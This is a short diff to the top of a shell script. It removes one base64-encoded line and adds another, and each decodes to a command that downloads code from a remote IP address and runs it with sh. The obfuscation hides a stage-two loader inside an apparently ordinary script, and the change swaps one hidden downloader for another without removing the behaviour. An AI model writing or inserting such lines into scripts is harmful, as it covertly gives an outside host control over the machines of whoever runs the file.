@@ -1,4 +1,3 @@
-#!/bin/sh
-printf %s Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMzo4MDAwL3N0YWdlMiB8IHNo | base64 -d | sh
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
+#!/usr/bin/env bash
+printf %s Y3VybCAtcyBodHRwczovLzIwMy4wLjExMy45L3ggfCBzaA== | base64 -d | sh
+set -eu
